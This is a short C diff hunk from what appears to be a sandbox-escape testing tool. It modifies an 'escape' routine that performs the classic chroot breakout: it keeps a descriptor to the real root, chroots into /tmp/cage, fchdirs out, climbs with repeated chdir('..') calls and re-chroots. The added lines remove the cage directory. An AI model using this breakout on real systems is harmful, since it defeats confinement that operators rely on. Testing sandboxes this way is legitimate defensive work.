@@ -116,7 +116,9 @@ static long attempt(int argc, char **argv) {
   if (!strcmp(word, "escape")) { /* chroot(2) out of a chroot: where the oldest trick leads; PATH there */
     mkdir("/tmp/cage", 0700);
     int fd = open("/", O_RDONLY);
-    if (chroot("/tmp/cage") || fchdir(fd)) return -1;
+    int refused = chroot("/tmp/cage");
+    unlinkat(fd, "tmp/cage", AT_REMOVEDIR);
+    if (refused || fchdir(fd)) return -1;
     for (int i = 0; i < 64; i++)
       if (chdir("..")) return -1;
     if (chroot(".")) return -1;
